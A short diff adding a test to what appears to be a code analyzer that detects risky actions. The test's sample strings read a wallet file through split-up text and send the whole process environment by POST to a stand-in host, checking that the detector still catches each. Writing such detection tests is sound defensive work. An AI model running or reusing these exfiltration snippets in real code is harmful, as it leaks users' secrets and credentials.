@@ -37,6 +37,13 @@ describe('for what code is parsed', () => {
   })
 })
 
+it('reads texts that are cut in pieces as the one that they make', () => {
+  expect(actsOf('read-secret', "open('wal' + 'let.dat')").length).toBe(1)
+  const sent =
+    "const all = { ...process['e' + 'nv'] }\nfetch('https://a.invalid', { method: 'POST', body: all })"
+  expect(actsOf('read-environment', sent).length).toBe(1)
+})
+
 it('knows what a function that calls itself asks for', () => {
   const code = `const https = require('https')
 function get(address) {
